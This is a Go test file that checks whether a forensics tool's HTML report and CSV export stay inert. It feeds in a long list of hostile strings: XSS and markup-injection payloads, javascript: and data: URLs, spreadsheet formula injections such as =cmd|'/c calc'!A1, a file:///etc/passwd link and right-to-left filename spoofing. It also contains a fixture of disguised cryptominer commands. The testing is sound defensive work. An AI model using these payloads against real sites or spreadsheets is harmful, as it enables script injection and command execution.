package html_test

import (
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"lamproom/casefile"
	"lamproom/detection"
	"lamproom/dissection"
	"lamproom/evidence"
	"lamproom/indicator"
	"lamproom/report/html"
	"lamproom/report/reporttest"
)

// attacks are strings that try to become markup, script, a link that fires, a
// formula, or another character than they seem to be. Each would call pwned(),
// open a dialog or ask a server if it came to life.
var attacks = []string{
	`<script>pwned()</script>`, `</script><script>pwned()</script>`, `"><script>pwned()</script>`, `'><img src=x onerror=pwned()>`,
	`<img src="http://192.0.2.1/x.png">`, `<svg onload=pwned()>`, `<svg><script>pwned()</script></svg>`, `<iframe src="javascript:pwned()"></iframe>`,
	`<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`, `<details open ontoggle=pwned()>`, `<body onload=pwned()>`, `<input autofocus onfocus=pwned()>`,
	`" autofocus onfocus="pwned()`, `' onmouseover='pwned()`, `" style="animation:x" onanimationstart="pwned()`, `<style>@import url(http://192.0.2.1/x.css);</style>`,
	`<link rel=stylesheet href=http://192.0.2.1/x.css>`, `<meta http-equiv=refresh content="0;url=http://192.0.2.1/">`, `<base href=http://192.0.2.1/>`,
	`<form action=http://192.0.2.1/><button>send</button></form>`, `<a href="javascript:pwned()">x</a>`, `javascript:pwned()`, `data:text/html,<script>pwned()</script>`,
	`<object data=http://192.0.2.1/x></object>`, `<embed src=http://192.0.2.1/x>`, `<video src=http://192.0.2.1/x autoplay>`, `<math><mi xlink:href="javascript:pwned()">`,
	`<template><script>pwned()</script></template>`, `--><script>pwned()</script>`, `<!--`, `]]><script>pwned()</script>`, `<![CDATA[`, `</style><script>pwned()</script>`,
	`</title><script>pwned()</script>`, `</textarea><script>pwned()</script>`, `</noscript><script>pwned()</script>`, `</template><script>pwned()</script>`, `<plaintext>`, `<xmp>`,
	`{{.}}`, `{{template "top"}}`, `${pwned()}`, "`${pwned()}`", `{{constructor.constructor('pwned()')()}}`, `\u003cscript\u003epwned()\u003c/script\u003e`, `&lt;script&gt;pwned()&lt;/script&gt;`,
	`&#60;script&#62;pwned()&#60;/script&#62;`, "<scr\x00ipt>pwned()</scr\x00ipt>", "<script\x0bsrc=http://192.0.2.1/x.js>", "\xbcscript\xbepwned()\xbc/script\xbe", "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
	`http://192.0.2.1/fires`, `https://attack.example.org/`, `www.attack.example.org`, `mailto:a@example.org`, `file:///etc/passwd`, `\\192.0.2.1\share\x.lnk`, `stratum+tcp://pool.example.org:3333`,
	`=cmd|'/c calc'!A1`, `=HYPERLINK("http://192.0.2.1/","x")`, `+1+1`, `-2+3+cmd`, `@SUM(1+1)*cmd`, "\t=1+1", "\r=1+1", "\n=1+1", `;=1+1`, `,=1+1`, `x;=1+1`, `"=1+1`, `",=1+1`, `＝1+1`, ` =1+1`, `|=1`,
	"photo\u202egpj.exe", "\u2066\u2067x\u2069", "a\u200b\u200c\u200d\ufeffb", "\x1b[2J\x1b]0;x\a", "\u009b31m", "line\nbreak\r\n\ttab", "\xff\xfe\x80", "\u2028\u2029", "\U000e0041\U000e0042", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
	"__proto__", "constructor", "toString", "hasOwnProperty", `f-" onclick="pwned()`, `#f-x`, "findings", "main", "said", "verdict", strings.Repeat("A", 5000), strings.Repeat("<b>", 2000), strings.Repeat("\u202e", 300), "",
	`'"><svg/onload=fetch('//192.0.2.1')>`, `<a ping=http://192.0.2.1/ href=#>`, `<img srcset="http://192.0.2.1/x 1x">`, `<portal src=http://192.0.2.1/>`, `<link rel=prefetch href=http://192.0.2.1/>`, `<script type=speculationrules>{"prefetch":[{"urls":["http://192.0.2.1/"]}]}</script>`,
}

// hostileCase has an attack wherever the evidence has a say, often enough that
// every list of the page is longer than what it shows at first.
func hostileCase() casefile.Case {
	c := reporttest.Rich()
	ptr := func(s string) *string { return &s }
	for round := range 4 {
		for i, a := range attacks {
			if round > 0 && len(a) > 300 {
				a = "short" // the long ones were there once
			}
			if round > 0 {
				a = fmt.Sprintf("%s%d", a, round)
			}
			b := attacks[(i*7+round)%len(attacks)]
			if len(b) > 300 && i%10 > 0 {
				b = attacks[0]
			}
			e := &evidence.Evidence{ID: evidence.ID{1, byte(i), byte(i >> 8), byte(round)}, Kind: evidence.Kind(b), Name: "evil/" + a, Size: 100, Origin: evidence.Origin{Path: a, Member: b, Recipe: a}}
			inner := &evidence.Evidence{ID: evidence.ID{2, byte(i), byte(i >> 8), byte(round)}, Kind: "text", Name: e.Name + "!" + b, Within: &evidence.Locator{Evidence: e, Offset: 7}, Origin: evidence.Origin{Recipe: b}}
			at := evidence.Locator{Evidence: e, Offset: 3, Length: int64(len(a))}
			cite := evidence.Cite(e, []byte("x "+a+" y"), 0, 2, 2+len(a))
			f := detection.Finding{
				Rule: a, Title: a, Severity: detection.Severity(i % 5), Confidence: 0.5, Mining: detection.Level(i % 4), Techniques: []string{a, b, "T1496.001"},
				Subject: detection.Subject{Host: ptr(a), Kind: a, Name: b}, Gaps: []string{a},
				Because: detection.Reason{Clause: a, Held: i%2 == 0, At: []evidence.Citation{cite}, Under: []detection.Reason{{Clause: b, At: []evidence.Citation{cite}}}},
			}
			f.Seal()
			c.Findings = append(c.Findings, f)
			w := &indicator.Wallet{Coin: a, Address: b, Valid: i%2 == 0, Network: a, Kind: b, Base: ptr(a), PaymentID: ptr(b), Problem: ptr(a)}
			c.Miners = append(c.Miners, detection.Miner{
				Family: a, Version: ptr(b), Algorithms: []string{a, b}, Authorization: detection.Authorization(a), Source: at, Via: a, Program: ptr(b),
				Pools: []detection.Pool{{Host: a, User: b, Wallet: w, Password: ptr(a), Worker: ptr(b), Algorithm: ptr(a), Payee: detection.PaysOperator, At: at}, {Host: b, User: a, Payee: detection.Payee(a), At: at}},
			})
			c.Evidence = append(c.Evidence, casefile.Entry{ID: e.ID, Kind: e.Kind, Name: e.Name, Size: 100, Origin: e.Origin}, casefile.Entry{ID: inner.ID, Kind: inner.Kind, Name: inner.Name, Within: inner.Within, Origin: inner.Origin})
			for k, t := range []indicator.Type{indicator.TypeURL, indicator.TypeDomain, indicator.TypeEmail, indicator.TypePath, indicator.Type(a)} {
				if round == 0 || k == round%5 {
					c.Indicators = append(c.Indicators, casefile.Indicator{Type: t, Value: a, Attributes: map[string]any{"coin": b, "kind": a}, Sightings: []casefile.Sighting{{At: at, Use: detection.Use(b)}, {At: at, Role: evidence.Reported, Use: "mention"}}})
				}
			}
			c.Coverage.Damage = append(c.Coverage.Damage, dissection.Damage{At: at, Name: a, Reason: b})
			c.Coverage.Skipped = append(c.Coverage.Skipped, dissection.Skip{Evidence: a, Reason: b, Policy: i%2 == 0})
			c.Coverage.Forgotten = append(c.Coverage.Forgotten, a)
			if round == 0 {
				c.Steps = append(c.Steps, casefile.Step{Phase: a, Text: b, Findings: []string{f.ID, a}, Commands: []string{a}})
			}
			c.Timeline = append(c.Timeline, detection.Event{Time: time.Date(2020, 1, 1, 0, 0, i, 0, time.UTC), Event: a, Finding: ptr(f.ID), At: at})
			c.Sources = append(c.Sources, casefile.SourceReport{
				Evidence: e.ID, Title: a, Language: b, Published: ptr(a), Stated: []detection.Name{{Kind: a, Value: b}, {Kind: detection.NameActor, Value: a}},
				Indicators: []casefile.SourceIndicator{{Type: indicator.TypeURL, Value: a, Observed: i%2 == 0}},
			})
		}
	}
	c.Tool.Version, c.Schema, c.ID = attacks[0], attacks[1], attacks[2]
	return c
}

func TestHostileStringsAreInertWithoutABrowser(t *testing.T) {
	inert(t, render(t, hostileCase(), html.Options{}))
}

// check is a sentence on the open page that must be true whatever was done to it.
const check = `(() => {
	const bad = [];
	if (window.pwned && window.pwned.calls) bad.push("something called pwned()");
	const tags = new Set("html head meta title style body a header p strong span div nav ol ul li main section h1 h2 h3 dl dt dd code button br details summary form fieldset legend label input select option mark pre i figure figcaption noscript table thead tbody tr th td footer script".split(" "));
	let scripts = 0;
	for (const e of document.querySelectorAll("*")) {
		if (!tags.has(e.localName) || e.namespaceURI !== "http://www.w3.org/1999/xhtml") bad.push("element " + e.outerHTML.slice(0, 200));
		for (const a of e.attributes) {
			if (a.name.startsWith("on") || a.name === "style" || a.name === "src" || a.name === "srcdoc" || a.name === "action") bad.push("attribute " + a.name + "=" + a.value.slice(0, 100));
			if (a.name === "href" && !/^#|^data:text\/csv;charset=utf-8;base64,/.test(a.value)) bad.push("link " + a.value.slice(0, 100));
		}
		if (e.localName === "script" && e.type !== "application/octet-stream") scripts++;
	}
	if (scripts !== 1) bad.push(scripts + " scripts");
	if (!location.href.split("#")[0].endsWith("/case.html")) bad.push("went to " + location.href);
	return bad.slice(0, 20).join("\n");
})()`

// TestHostileStringsInABrowser opens a page of hostile strings, does all that can
// be done on it, and wants nothing to have happened.
func TestHostileStringsInABrowser(t *testing.T) {
	if testing.Short() {
		t.Skip("a browser takes a while")
	}
	b := chromium(t)
	b.open(render(t, hostileCase(), html.Options{}), 1280, 900)
	b.eval(`window.pwned = () => { window.pwned.calls = true; }`)
	state := func(when string) {
		t.Helper()
		if bad, _ := b.eval(check).(string); bad != "" {
			t.Errorf("%s:\n%s", when, bad)
		}
	}
	state("at first")
	if n := b.eval(`document.querySelectorAll('a[href^="#"]').length`).(float64); n < 500 {
		t.Errorf("only %v links inside of the page", n)
	}
	b.eval(`[...document.querySelectorAll('a[href^="#"]')].filter((_, i) => i % 40 === 0).forEach(e => e.click())`)
	state("after links were followed")
	for list, total := range map[string]float64{"findings": 0, "indicators": 0, "evidence": 0, "miners": 0, "sources": 0, "timeline": 0, "layers": 0, "damage": 0, "forgotten": 0} {
		root := fmt.Sprintf(`document.querySelector('.rows[data-list="%s"]')`, list)
		more := fmt.Sprintf(`document.querySelector('button[data-more="%s"]')`, list)
		if b.eval(more+" !== null") != true {
			t.Errorf("the list of %s is not long enough to be packed: the test does not see its rows", list)
			continue
		}
		for {
			before := b.eval(root + ".children.length").(float64)
			if b.eval(more+`.closest(".more").classList.contains("done")`) == true {
				total = before
				break
			}
			b.eval(more + ".click()")
			b.until("more rows come", fmt.Sprintf("%s.children.length > %v", root, before))
		}
		if total < float64(len(attacks)) {
			t.Errorf("%s: %v rows", list, total)
		}
	}
	state("after everything was unpacked")
	b.eval(`document.querySelectorAll("details").forEach(e => { e.open = true; })`)
	state("after everything was unfolded")
	for _, words := range []string{"<script>", `"><`, "pwned()", "=cmd", "\\u202e", "nothing has this"} {
		b.eval(fmt.Sprintf(`(() => { for (const i of document.querySelectorAll('input[name="words"]')) { i.value = %q; i.dispatchEvent(new Event("input", {bubbles: true})); } })()`, words))
		b.until("the search is done", fmt.Sprintf(`[...document.querySelectorAll('.rows[data-list="findings"] > *')].every(e => e.textContent.toLowerCase().includes(%q) || e.textContent.length > 600)`, strings.ToLower(words)))
		state("after a search for " + words)
	}
	b.eval(`[...document.querySelectorAll("button[data-copy]")].filter((_, i) => i % 20 === 0).forEach(e => e.click())`)
	state("after values were copied")
	b.eval(`document.dispatchEvent(new Event("mouseover", {bubbles: true})); document.querySelectorAll("code, span, td").forEach(e => e.dispatchEvent(new MouseEvent("mouseover", {bubbles: true})))`)
	state("after the mouse was everywhere")
	b.eval(`dispatchEvent(new Event("beforeprint")); dispatchEvent(new Event("afterprint"))`)
	state("after it was made ready for paper")
	b.quiet()
}

// TestTableForSpreadsheets downloads the table and reads it as a spreadsheet would.
func TestTableForSpreadsheets(t *testing.T) {
	c := hostileCase()
	page := render(t, c, html.Options{})
	const begin = "data:text/csv;charset=utf-8;base64,"
	at := strings.Index(page, begin)
	raw := page[at+len(begin):]
	raw = strings.NewReplacer("&#43;", "+", "&#61;", "=", "&#47;", "/").Replace(raw[:strings.IndexByte(raw, '"')])
	table, err := base64.StdEncoding.DecodeString(raw)
	if err != nil {
		t.Fatal(err)
	}
	sheetIsSafe(t, table, len(c.Indicators))

	if testing.Short() {
		return
	}
	b := chromium(t)
	b.open(page, 1280, 900)
	dir := filepath.Join(b.scratch, "downloads")
	b.call("", "Browser.setDownloadBehavior", map[string]any{"behavior": "allow", "downloadPath": dir, "eventsEnabled": true})
	if n := b.click("a[download]"); n != 1 {
		t.Fatalf("%d downloads are offered", n)
	}
	deadline := time.Now().Add(patience)
	for time.Now().Before(deadline) {
		files, _ := filepath.Glob(filepath.Join(dir, "*.csv"))
		if len(files) == 1 {
			got, err := os.ReadFile(files[0])
			if err == nil && len(got) == len(table) {
				sheetIsSafe(t, got, len(c.Indicators))
				return
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Error("the table was not downloaded")
}

func sheetIsSafe(t *testing.T, table []byte, indicators int) {
	t.Helper()
	text := strings.TrimPrefix(string(table), "\ufeff")
	for _, comma := range []rune{',', ';', '\t'} { // as spreadsheets of other countries split lines
		r := csv.NewReader(strings.NewReader(text))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = comma, true, -1
		lines, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if comma == ',' && len(lines) != indicators+1 {
			t.Errorf("%d lines for %d indicators", len(lines), indicators)
		}
		for _, line := range lines {
			if comma == ',' && len(line) != 7 {
				t.Errorf("%d fields: %q", len(line), line)
			}
			for _, cell := range line {
				if cell = strings.TrimLeft(cell, " \""); cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) {
					t.Errorf("split at %q, a cell is a formula: %.100q", comma, cell)
				}
			}
		}
	}
	if strings.Contains(strings.ReplaceAll(text, "\r\n", ""), "\n") {
		t.Error("a line does not end in CR LF")
	}
}

// TestPicturesForPeople makes pictures of the page in LAMPROOM_SHOTS.
func TestPicturesForPeople(t *testing.T) {
	if os.Getenv("LAMPROOM_SHOTS") == "" {
		t.Skip("no folder for pictures is named in LAMPROOM_SHOTS")
	}
	b := chromium(t)
	dark := map[string]string{"name": "prefers-color-scheme", "value": "dark"}
	page := render(t, reporttest.Rich(), html.Options{})
	if file := os.Getenv("LAMPROOM_PAGE"); file != "" {
		raw, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		page = string(raw)
	}
	for _, v := range []struct {
		name          string
		width, height int
		media         []map[string]string
		do            string
	}{
		{"wide", 1280, 2400, nil, ""},
		{"dark", 1280, 1800, []map[string]string{dark}, `document.querySelectorAll("details.finding, details.bytes").forEach(e => { e.open = true; }); document.querySelector("#findings").scrollIntoView()`},
		{"open", 1280, 2200, nil, `document.querySelectorAll("details.finding").forEach(e => { e.open = true; }); document.querySelector("details.bytes").open = true; document.querySelector("#findings").scrollIntoView()`},
		{"phone", 390, 2400, nil, ""},
		{"phone-open", 390, 2400, nil, `document.querySelectorAll("details.finding, details.bytes").forEach(e => { e.open = true; }); document.querySelector("#findings").scrollIntoView()`},
		{"rest", 1280, 2400, nil, `document.querySelector("#indicators").scrollIntoView()`},
	} {
		b.open(page, v.width, v.height, v.media...)
		if v.do != "" {
			b.eval(v.do)
		}
		time.Sleep(300 * time.Millisecond)
		b.shot(v.name)
		if wide := b.eval("document.documentElement.scrollWidth - document.documentElement.clientWidth").(float64); wide > 0 {
			t.Errorf("%s: the page is %v pixels wider than the window", v.name, wide)
		}
	}
}

// BenchmarkPaint opens a case of 20,000 findings in a browser.
func BenchmarkPaint(b *testing.B) {
	page := render(b, manyFindings(20_000), html.Options{})
	br := chromium(b)
	b.ReportMetric(float64(len(page))/1e6, "page-MB")
	for b.Loop() {
		br.open(page, 1280, 900)
		var m struct{ Paint, Ready, Search float64 }
		json.Unmarshal([]byte(br.eval(`(async () => {
			while (!performance.getEntriesByName("first-contentful-paint").length) await new Promise(r => setTimeout(r, 10));
			const paint = performance.getEntriesByName("first-contentful-paint")[0].startTime;
			const ready = performance.getEntriesByType("navigation")[0].domContentLoadedEventEnd;
			const from = performance.now(), input = document.querySelector('#findings input[name="words"]');
			input.value = "number 1999"; input.dispatchEvent(new Event("input", {bubbles: true}));
			while (document.querySelectorAll("details.finding").length > 50) await new Promise(r => setTimeout(r, 5));
			return JSON.stringify({paint, ready, search: performance.now() - from});
		})()`).(string)), &m)
		b.ReportMetric(m.Paint, "first-paint-ms")
		b.ReportMetric(m.Ready, "interactive-ms")
		b.ReportMetric(m.Search, "search-ms")
	}
}

// manyFindings is a case of n findings with four citations each.
func manyFindings(n int) casefile.Case {
	c := reporttest.Rich()
	base := c.Findings[1]
	for i := 0; len(c.Findings) < n; i++ {
		f := base
		ev := &evidence.Evidence{Name: fmt.Sprintf("srv/%05d/start.sh", i), ID: evidence.ID{byte(i), byte(i >> 8), 7}}
		line := fmt.Sprintf("exec /usr/lib/.x%d/kworker -o pool%d.example.org:3333 -u %s -p host%d --donate-level 1 -k", i, i%97, reporttest.Wallet, i)
		f.Because = detection.Reason{Clause: fmt.Sprintf("the arguments are a complete instruction to mine, number %d", i), Held: true, Under: []detection.Reason{
			{Clause: "an option that takes a pool names the host", Held: true, At: []evidence.Citation{evidence.Cite(ev, []byte(line), 100, 30, 55)}},
			{Clause: "the user is a valid Monero integrated address", Held: true, At: []evidence.Citation{evidence.Cite(ev, []byte(line), 100, 60, 160)}},
			{Clause: "a password is given", Held: true, At: []evidence.Citation{evidence.Cite(ev, []byte(line), 100, 165, 172)}},
			{Clause: "the program has a miner's name", Held: false},
		}}
		f.Severity = detection.Severity(i % 5)
		f.Title = fmt.Sprintf("A command that mines at pool%d.example.org", i%97)
		f.Subject = detection.Subject{Kind: "file", Name: ev.Name}
		f.Seal()
		c.Findings = append(c.Findings, f)
		c.Evidence = append(c.Evidence, casefile.Entry{ID: ev.ID, Kind: "text", Name: ev.Name, Size: 100})
		c.Indicators = append(c.Indicators, casefile.Indicator{Type: indicator.TypeDomain, Value: fmt.Sprintf("h%d.example.org", i), Attributes: map[string]any{}, Sightings: []casefile.Sighting{{At: f.Where(), Use: detection.UsePool}}})
	}
	return c
}

// TestKeyboard walks through the page by the tabulator key: what can be used is
// reached, shows that it is, and unfolds by the return key.
func TestKeyboard(t *testing.T) {
	if testing.Short() {
		t.Skip("a browser takes a while")
	}
	b := chromium(t)
	b.open(render(t, reporttest.Rich(), html.Options{}), 1280, 900)
	press := func(key, code string, n int, text string) {
		for _, kind := range []string{"keyDown", "keyUp"} {
			p := map[string]any{"type": kind, "key": key, "code": code, "windowsVirtualKeyCode": n}
			if kind == "keyDown" && text != "" {
				p["text"] = text
			}
			b.call(b.session, "Input.dispatchKeyEvent", p)
		}
	}
	b.call(b.session, "Page.bringToFront", nil)
	want := map[string]bool{"a.skip": false, "nav a": false, "#verdict a": false, "#findings input": false, "#findings select": false, "#findings summary": false, "button.copy": false, "a[download]": false}
	unfolded := false
	for range 200 {
		press("Tab", "Tab", 9, "")
		for selector := range want {
			if b.eval(fmt.Sprintf("document.activeElement.matches(%q)", selector)) == true {
				want[selector] = true
			}
		}
		if b.eval("document.activeElement === document.body") == true {
			break
		}
		if b.eval(`getComputedStyle(document.activeElement).outlineStyle`) == "none" {
			t.Errorf("no outline on %v", b.eval("document.activeElement.outerHTML.slice(0, 120)"))
		}
		if !unfolded && b.eval(`document.activeElement.matches("#findings details.finding > summary")`) == true {
			press("Enter", "Enter", 13, "\r")
			b.until("the finding unfolds", "document.activeElement.parentElement.open")
			unfolded = true
		}
	}
	for selector, reached := range want {
		if !reached {
			t.Errorf("%s is not reached by the keyboard", selector)
		}
	}
	b.quiet()
}
